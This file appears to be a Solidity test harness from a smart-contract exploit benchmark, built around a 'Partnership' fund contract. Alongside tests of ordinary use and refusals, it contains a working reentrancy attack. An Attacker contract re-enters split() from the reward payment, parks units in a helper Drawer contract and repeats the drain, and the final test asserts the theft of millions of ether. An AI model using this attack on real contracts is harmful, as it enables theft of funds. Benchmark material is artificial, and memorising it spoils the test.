// SPDX-License-Identifier: LGPL-3.0
pragma solidity ^0.4.11;

import "./Partnership.sol";

// assay-canary-ea994e7f-568f-44f5-be9d-087a3a1439ec

interface Vm {
    function deal(address who, uint256 balance) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert() external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant PROJECT = address(0x9801);
    uint constant POOL = 11500000 ether;
    uint constant STAKE = 35000 ether;

    Partnership internal fund;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1465000000);
        fund = new Partnership(10);

        vm.deal(ALICE, POOL - 500000 ether - STAKE);
        vm.prank(ALICE);
        fund.join.value(POOL - 500000 ether - STAKE)();
        vm.deal(BOB, 500000 ether);
        vm.prank(BOB);
        fund.join.value(500000 ether)();

        // the attacker is an ordinary partner who bought units during the offering
        thief = new Attacker(fund);
        vm.deal(address(thief), STAKE);
        thief.join(STAKE);

        vm.warp(1465000000 + 11 days);
        vm.deal(PROJECT, 1150 ether);
        vm.prank(PROJECT);
        fund.depositReward.value(1150 ether)();
    }

    /// Bob moves units, claims a reward, and leaves with principal and reward; the rest stays with the others.
    function test_Regular() public {
        address successor = address(0x5CC);
        uint before = BOB.balance;
        vm.prank(BOB);
        uint claimed = fund.claimReward();
        require(claimed == 50 ether && BOB.balance == before + 50 ether);

        vm.prank(BOB);
        fund.moveUnits(ALICE, 100000 ether);
        require(fund.units(BOB) == 400000 ether);

        vm.deal(PROJECT, 115 ether);
        vm.prank(PROJECT);
        fund.depositReward.value(115 ether)();

        fund.fundProject(PROJECT, POOL / 10);
        vm.prank(BOB);
        require(fund.split(successor));
        require(successor.balance == 360000 ether);
        require(BOB.balance == before + 54 ether);
        require(fund.units(BOB) == 0 && fund.credited(BOB) == 0);
        require(fund.totalUnits() == POOL - 400000 ether);
        require(fund.capital() == address(fund).balance);

        vm.prank(BOB);
        require(!address(fund).call(abi.encodeWithSignature("split(address)", successor)));
    }

    function test_RefusesStrangers() public {
        Purse purse = fund.rewardPurse();
        vm.prank(BOB);
        vm.expectRevert();
        purse.pay(BOB, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.fundProject(BOB, 1 ether);
    }

    function test_RefusesBeforeTheOfferingEnds() public {
        vm.warp(1465000000 + 9 days);
        vm.deal(PROJECT, 1 ether);
        vm.prank(PROJECT);
        vm.expectRevert();
        fund.depositReward.value(1 ether)();
        vm.expectRevert();
        fund.fundProject(PROJECT, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.moveUnits(ALICE, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.split(address(0x5CC));
        vm.prank(BOB);
        vm.expectRevert();
        fund.join();
    }

    function test_RefusesLatecomers() public {
        vm.deal(BOB, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.join.value(1 ether)();
    }

    /// A refusal gives the rest of the gas back; a division by zero would not.
    function test_RefusesRewardsForNobody() public {
        Partnership empty = new Partnership(0);
        vm.deal(address(this), 1 ether);
        uint before = gasleft();
        require(!address(empty).call.gas(5000000).value(1 ether)(abi.encodeWithSignature("depositReward()")));
        require(before - gasleft() < 1000000);
    }

    function test_RefusesMoreThanThereIs() public {
        vm.deal(address(fund), POOL + 1 ether); // ether that came uncalled belongs to no unit
        vm.expectRevert();
        fund.fundProject(PROJECT, POOL + 1);
        vm.prank(BOB);
        vm.expectRevert();
        fund.moveUnits(ALICE, 500000 ether + 1);
    }

    function test_RefusesNobodyAsRecipient() public {
        vm.prank(BOB);
        vm.expectRevert();
        fund.moveUnits(address(0), 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.split(address(0));
    }

    /// This contract takes no ether: not as a project, a successor or a partner.
    function test_RefusesWhatCannotBePaid() public {
        vm.expectRevert();
        fund.fundProject(address(this), 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.split(address(this));
        vm.expectRevert();
        fund.claimReward();

        vm.warp(1465000000);
        vm.deal(address(this), 1 ether);
        fund.join.value(1 ether)();
        vm.warp(1465000000 + 11 days);
        vm.expectRevert();
        fund.split(address(0x5CC));
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 3600000 ether);
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Holds the attacker's units while the outermost call clears its account.
contract Drawer {
    address internal owner = msg.sender;

    function giveBack(Partnership fund) public {
        require(msg.sender == owner);
        fund.moveUnits(owner, fund.units(address(this)));
    }
}

/// Splits again from inside the reward payment, then starts over with the same units.
contract Attacker {
    uint constant LEVELS = 30;
    uint constant ROUNDS = 4;

    Partnership internal fund;
    Drawer internal drawer;
    uint internal level;

    constructor(Partnership fund_) public {
        fund = fund_;
        drawer = new Drawer();
    }

    function join(uint amount) public {
        fund.join.value(amount)();
    }

    function run() public {
        for (uint round = 0; round < ROUNDS && fund.units(address(this)) > 0; round++) {
            level = 1;
            fund.split(address(this));
            if (round + 1 < ROUNDS) drawer.giveBack(fund);
        }
    }

    function () public payable {
        if (msg.sender != address(fund.rewardPurse())) return;
        if (level < LEVELS) {
            level++;
            // a refusal is swallowed: the outer call must not fail with the inner one
            address(fund).call(abi.encodeWithSignature("split(address)", address(this)));
        } else {
            fund.moveUnits(address(drawer), fund.units(address(this)));
        }
    }
}
